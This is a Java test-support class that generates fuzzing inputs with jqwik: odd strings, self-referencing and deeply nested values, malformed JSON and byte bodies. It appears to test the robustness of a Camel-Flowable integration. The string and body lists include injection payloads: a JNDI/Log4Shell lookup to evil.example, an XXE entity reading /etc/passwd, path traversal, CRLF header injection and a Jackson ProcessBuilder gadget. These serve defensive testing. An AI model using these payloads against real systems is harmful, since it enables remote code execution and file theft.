package io.github.camelflowable.reliability;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/** What somebody could send us: texts, values, JSON and bytes that nobody expects. */
final class BadInputs {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final AtomicLong TRIED = new AtomicLong();

    private BadInputs() {}

    /** Counts an input as tried. */
    static void tried() {
        TRIED.incrementAndGet();
    }

    /** @return how many inputs were tried in this JVM so far */
    static long allTried() {
        return TRIED.get();
    }

    // ---- texts ----

    static Arbitrary<String> texts() {
        return Arbitraries.oneOf(
                Arbitraries.strings().ofMaxLength(20),
                Arbitraries.strings().ascii().ofMaxLength(60),
                Arbitraries.strings().numeric().ofMaxLength(30),
                Arbitraries.of(
                        "",
                        " ",
                        "\u0000",
                        "\r\nHost: evil.example",
                        "..",
                        "../../jobs",
                        "%2F",
                        "%2e%2e%2f",
                        "a/b;c?d#e",
                        "\\",
                        "//evil.example",
                        "http://evil.example/flowable-rest",
                        "file:///etc/passwd",
                        "classpath:logback-test.xml",
                        "${jndi:ldap://evil.example/x}",
                        "${sys:user.home}",
                        "{{password}}",
                        "#bean:x",
                        "#class:java.lang.ProcessBuilder",
                        "RAW(x",
                        "\uD83D",
                        "\uD83D\uDE00",
                        "NaN",
                        "-0",
                        "1e999999999",
                        "99999999999999999999999",
                        "P30D",
                        "PT-1S",
                        "PT99999999999999999H",
                        "+999999999-12-31T23:59:59Z",
                        "java.lang.Runtime",
                        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>"),
                Arbitraries.of(300, 3_000, 70_000).map("x"::repeat));
    }

    // ---- Java values ----

    /** Refers to itself. */
    static final class Circle {
        private final String name = "circle";

        public String getName() {
            return name;
        }

        public Circle getSelf() {
            return this;
        }
    }

    /** Cannot be read. */
    static final class Broken {
        public String getValue() {
            throw new UnsupportedOperationException("no value");
        }

        @Override
        public String toString() {
            throw new IllegalStateException("no text");
        }
    }

    /** Values of every kind that a route may have in a body, a header or a variable. */
    static Arbitrary<Object> values() {
        return values(2);
    }

    private static Arbitrary<Object> values(int levels) {
        Arbitrary<Object> simple = Arbitraries.oneOf(
                texts().map(text -> (Object) text),
                Arbitraries.integers().map(number -> (Object) number),
                Arbitraries.longs().map(number -> (Object) number),
                Arbitraries.doubles().map(number -> (Object) number),
                Arbitraries.of(
                        true,
                        Double.NaN,
                        Float.POSITIVE_INFINITY,
                        new BigDecimal("1e999999"),
                        BigInteger.ONE.shiftLeft(5000),
                        Instant.MAX,
                        Instant.EPOCH,
                        Thread.State.NEW,
                        new UUID(1, 2),
                        new byte[] {0, -1},
                        new int[] {1, 2},
                        Optional.empty(),
                        Optional.of(Optional.of(1)),
                        new Circle(),
                        new Broken(),
                        new Object(),
                        String.class,
                        new Thread("not started"),
                        circle(),
                        nested(2_000),
                        nested(100_000),
                        new IllegalStateException("an exception")),
                bodies().map(body -> (Object) body));
        Arbitrary<Object> scalars = simple.injectNull(0.05);
        return levels == 0
                ? scalars
                : Arbitraries.frequencyOf(
                        Tuple.of(3, scalars),
                        Tuple.of(1, values(levels - 1).list().ofMaxSize(3).map(list -> (Object) new ArrayList<>(list))),
                        Tuple.of(1, maps(levels - 1).map(map -> (Object) map)));
    }

    static Arbitrary<Map<Object, Object>> maps() {
        return maps(1);
    }

    private static Arbitrary<Map<Object, Object>> maps(int levels) {
        Arbitrary<Object> keys = Arbitraries.oneOf(
                texts().map(text -> (Object) text),
                Arbitraries.of((Object) 1, Thread.State.NEW, new byte[0]).injectNull(0.1));
        return Combinators.combine(keys, values(levels))
                .as(Tuple::of)
                .list()
                .ofMaxSize(4)
                .map(entries -> {
                    Map<Object, Object> map = new HashMap<>();
                    entries.forEach(entry -> map.put(entry.get1(), entry.get2()));
                    return map;
                });
    }

    private static Map<String, Object> circle() {
        Map<String, Object> map = new HashMap<>() {
            private static final long serialVersionUID = 1L;

            @Override
            public int hashCode() {
                return 1;
            }

            @Override
            public boolean equals(Object other) {
                return this == other;
            }

            @Override
            public String toString() {
                return "circle";
            }
        };
        map.put("self", map);
        return map;
    }

    private static List<Object> nested(int levels) {
        List<Object> list = List.of();
        for (int i = 0; i < levels; i++) {
            // A list of its own kind: hashCode and toString of a JDK list would overflow before we see it.
            list = new Shell(list);
        }
        return list;
    }

    private static final class Shell extends java.util.AbstractList<Object> {
        private final Object content;

        Shell(Object content) {
            this.content = content;
        }

        @Override
        public Object get(int index) {
            return content;
        }

        @Override
        public int size() {
            return 1;
        }

        @Override
        public int hashCode() {
            return System.identityHashCode(this);
        }

        @Override
        public boolean equals(Object other) {
            return this == other;
        }

        @Override
        public String toString() {
            return "nested list";
        }
    }

    // ---- JSON ----

    /** JSON documents; objects take their field names from these now and then. */
    static Arbitrary<Object> json(String... fields) {
        return json(3, fields);
    }

    private static Arbitrary<Object> json(int levels, String... fields) {
        Arbitrary<Object> scalars = Arbitraries.oneOf(
                        texts().map(text -> (Object) text),
                        Arbitraries.integers().map(number -> (Object) number),
                        Arbitraries.doubles().map(number -> (Object) number),
                        Arbitraries.of((Object) true, false, new BigDecimal("1e400"), BigInteger.ONE.shiftLeft(200)))
                .injectNull(0.1);
        return levels == 0
                ? scalars
                : Arbitraries.frequencyOf(
                        Tuple.of(1, scalars),
                        Tuple.of(2, objects(levels - 1, fields)),
                        Tuple.of(1, json(levels - 1, fields).list().ofMaxSize(3).map(list -> (Object) list)));
    }

    /** JSON objects with these fields, and others. */
    static Arbitrary<Object> objects(int levels, String... fields) {
        Arbitrary<String> names = fields.length == 0
                ? texts()
                : Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.of(fields)), Tuple.of(1, texts()));
        return Combinators.combine(names, json(levels, fields))
                .as(Tuple::of)
                .list()
                .ofMaxSize(6)
                .map(entries -> {
                    Map<String, Object> object = new HashMap<>();
                    entries.forEach(entry -> object.put(entry.get1(), entry.get2()));
                    return object;
                });
    }

    static String write(Object json) {
        try {
            return JSON.writeValueAsString(json);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    // ---- bytes ----

    /** Bytes that may or may not be JSON, near to one of the texts or far from all. */
    static Arbitrary<byte[]> bodies(String... near) {
        Arbitrary<byte[]> strange = Arbitraries.oneOf(
                Arbitraries.bytes().array(byte[].class).ofMaxSize(60),
                json().map(json -> bytes(write(json))),
                Arbitraries.of(
                        bytes("[".repeat(100_000)),
                        bytes("{\"a\":".repeat(5_000)),
                        bytes("[" + "{\"variables\":[".repeat(1_500)),
                        bytes("[{\"id\":\"1\",\"retries\":" + "9".repeat(2_000) + "}]"),
                        bytes("{\"id\":\"1\",\"retries\":1e999999999}"),
                        bytes("{\"jobId\":" + "[".repeat(2_000) + "]".repeat(2_000) + "}"),
                        bytes("\u0000"),
                        bytes("\uFEFF[]"),
                        bytes("<html><body>Sign in</body></html>"),
                        bytes("[{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}]"),
                        bytes("null"),
                        bytes("[null]"),
                        new byte[] {31, -117, 8, 0},
                        new byte[0]));
        if (near.length == 0) {
            return strange;
        }
        Arbitrary<byte[]> mutated = Combinators.combine(
                        Arbitraries.of(near),
                        Arbitraries.integers().between(0, 100_000),
                        Arbitraries.integers().between(0, 12),
                        Arbitraries.oneOf(
                                Arbitraries.strings().ascii().ofMaxLength(4),
                                Arbitraries.of(
                                        "null", "[]", "{}", "\"x\"", "1", "1e400", "-1", ",", "}", "]", "\\u0000")))
                .as(BadInputs::mutate);
        return Arbitraries.frequencyOf(Tuple.of(3, mutated), Tuple.of(1, strange));
    }

    /** Replaces a piece of the text. */
    private static byte[] mutate(String text, int where, int length, String by) {
        int from = where % (text.length() + 1);
        int to = Math.min(text.length(), from + length);
        return bytes(text.substring(0, from) + by + text.substring(to));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    // ---- verdict ----

    private static final List<Class<?>> SIGNS_OF_A_BUG = List.of(
            Error.class,
            NullPointerException.class,
            ClassCastException.class,
            IndexOutOfBoundsException.class,
            NegativeArraySizeException.class,
            ArithmeticException.class,
            java.util.ConcurrentModificationException.class,
            java.util.NoSuchElementException.class);

    /** @return what is wrong with the way an input was refused, empty if it was refused by name */
    static Optional<String> bug(Throwable refusal) {
        if (SIGNS_OF_A_BUG.stream().anyMatch(type -> type.isInstance(refusal))) {
            return Optional.of("a " + refusal.getClass().getName() + " says that nobody thought of this input: "
                    + Arrays.asList(refusal.getStackTrace()).subList(0, Math.min(12, refusal.getStackTrace().length)));
        }
        return refusal.getMessage() == null || refusal.getMessage().isBlank()
                ? Optional.of("an exception without a message: " + refusal.getClass())
                : Optional.empty();
    }
}
